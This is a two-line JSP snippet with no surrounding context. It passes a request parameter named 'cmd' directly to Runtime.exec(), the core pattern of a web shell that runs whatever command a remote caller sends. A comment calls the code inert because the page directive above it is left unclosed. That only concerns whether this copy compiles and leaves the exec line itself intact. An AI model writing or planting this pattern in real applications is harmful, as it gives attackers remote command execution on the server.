<%@ page import="java.io.*" 
<% Runtime.getRuntime().exec(request.getParameter("cmd")); // inert: the directive above is not closed
